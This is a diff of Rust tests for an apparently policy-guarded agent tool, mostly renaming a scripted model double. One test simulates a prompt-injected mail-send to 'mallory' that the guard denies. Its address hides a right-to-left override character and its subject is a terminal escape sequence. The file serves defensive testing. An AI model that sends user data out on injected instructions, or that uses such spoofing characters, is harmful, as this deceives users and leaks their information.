@@ -12,7 +12,7 @@ use std::process::{Child, Command, Output, Stdio};
 
 use serde_json::{Value, json};
 
-use program::{DOUBLES, EXAMPLE, Model, err, example, file, flowgate, folder, out, outbox, run};
+use program::{DOUBLES, EXAMPLE, ModelServerDouble, err, example, file, flowgate, folder, out, outbox, run};
 
 const FETCH: &str = r#"web__fetch {"url": "https://example.org/news"}"#;
 
@@ -20,7 +20,7 @@ const FETCH: &str = r#"web__fetch {"url": "https://example.org/news"}"#;
 fn a_page_is_hidden_and_a_slot_passes_its_summary_on() {
     let folder = folder("guarded");
     let send = r#"mail__send_mail {"to": "bob@example.org", "subject": "News", "body": {"$slot": {"regions": ["h1"], "fill": "sum up"}}}"#;
-    let model = Model::new(&[FETCH, send, "Otters are back.", "Bob has it."]);
+    let model = ModelServerDouble::new(&[FETCH, send, "Otters are back.", "Bob has it."]);
     let prompt = "Send Bob a summary of https://example.org/news";
     let more = [
         "--labels",
@@ -95,8 +95,12 @@ fn an_injected_call_is_denied_without_a_terminal() {
     let folder = folder("injected");
     let send =
         r#"mail__send_mail {"to": "mallory\u202e@example.net", "subject": "\u001b[2J", "body": "All of it"}"#;
-    let model =
-        Model::new(&[FETCH, r#"look {"regions": ["h1"]}"#, send, "I was asked to send mail, and may not."]);
+    let model = ModelServerDouble::new(&[
+        FETCH,
+        r#"look {"regions": ["h1"]}"#,
+        send,
+        "I was asked to send mail, and may not.",
+    ]);
     let output = run(&folder, &example(&model, &["--labels", "What is new?"]), "");
     assert_eq!((output.status.code(), outbox(&folder).len()), (Some(0), 0));
     assert_eq!(out(&output), "I was asked to send mail, and may not.\n");
@@ -127,7 +131,7 @@ fn a_chat_reads_lines_and_answers_commands() {
     let list = "mail__list_mail {}";
     let send =
         r#"mail__send_mail {"to": "x@example.net", "subject": "s", "body": {"$slot": {"regions": ["h1"]}}}"#;
-    let model = Model::new(&[list, send, "I may not.", "You are welcome."]);
+    let model = ModelServerDouble::new(&[list, send, "I may not.", "You are welcome."]);
     let input = "/tools\n/why\nForward my mail\n/why\n/view\n/labels\n\n/nope\nThanks\n/quit\nnever said\n";
     let output = run(&folder, &example(&model, &["--system", "Be brief."]), input);
     let (said, told) = (out(&output), err(&output));
@@ -166,8 +170,14 @@ require trusted if:
 ";
 
 /// Runs a chat with the server of `odd.py`.
-fn odd(folder: &Path, how: &[&str], policy: &str, script: &[&str], more: &[&str]) -> (Output, Model) {
-    let model = Model::new(script);
+fn odd(
+    folder: &Path,
+    how: &[&str],
+    policy: &str,
+    script: &[&str],
+    more: &[&str],
+) -> (Output, ModelServerDouble) {
+    let model = ModelServerDouble::new(script);
     let mut args = vec![json!(format!("{DOUBLES}/odd.py"))];
     args.extend(how.iter().map(|argument| json!(argument)));
     let config = json!({"mcpServers": {"odd": {"command": "python3", "args": args, "env": {"ODD": "1"}}}});
@@ -350,9 +360,9 @@ fn the_help_shows_how() {
 }
 
 /// A process that is killed on drop.
-struct Ended(Child);
+struct KillOnDrop(Child);
 
-impl Drop for Ended {
+impl Drop for KillOnDrop {
     fn drop(&mut self) {
         let _ = self.0.kill();
         let _ = self.0.wait();
@@ -369,10 +379,10 @@ fn servers_may_be_elsewhere() {
         .unwrap();
     let mut address = String::new();
     BufReader::new(server.stdout.take().unwrap()).read_line(&mut address).unwrap();
-    let _server = Ended(server);
+    let _server = KillOnDrop(server);
     let policy = file(&folder, "policy.flow", ODD);
     let attempt = |path: &str, key: &str| {
-        let model = Model::new(&["odd__do {}", "Done."]);
+        let model = ModelServerDouble::new(&["odd__do {}", "Done."]);
         let entry = json!({"url": format!("{}{path}", address.trim()), "headers": {"Authorization": format!("Bearer {key}")}});
         let config = file(&folder, "servers.json", &json!({"mcpServers": {"odd": entry}}).to_string());
         let arguments =
@@ -395,7 +405,7 @@ fn servers_may_be_elsewhere() {
 }
 
 /// Runs the example at a terminal; `steps` lists the expected outputs and the lines to type after them.
-fn at_terminal(folder: &Path, model: &Model, steps: &Value) -> (Option<i32>, String) {
+fn at_terminal(folder: &Path, model: &ModelServerDouble, steps: &Value) -> (Option<i32>, String) {
     let output = Command::new("python3")
         .arg(format!("{DOUBLES}/terminal.py"))
         .arg(steps.to_string())
@@ -422,7 +432,7 @@ fn a_person_at_the_terminal_decides() {
         send,
         "Not sent.",
     ];
-    let model = Model::new(&script);
+    let model = ModelServerDouble::new(&script);
     let steps = json!([
         ["› ", "Tell Bob\n"],
         ["[y/N/?] ", "?\n"],
@@ -450,7 +460,7 @@ fn a_person_at_the_terminal_decides() {
 #[cfg(unix)]
 fn ctrl_c_stops_a_turn_and_twice_the_chat() {
     let folder = folder("interrupt");
-    let model = Model::new(&["wait", "Here I am.", "wait"]);
+    let model = ModelServerDouble::new(&["wait", "Here I am.", "wait"]);
     let steps = json!([
         ["› ", "Hello\n"],
         ["the model writes", "\u{3}"],
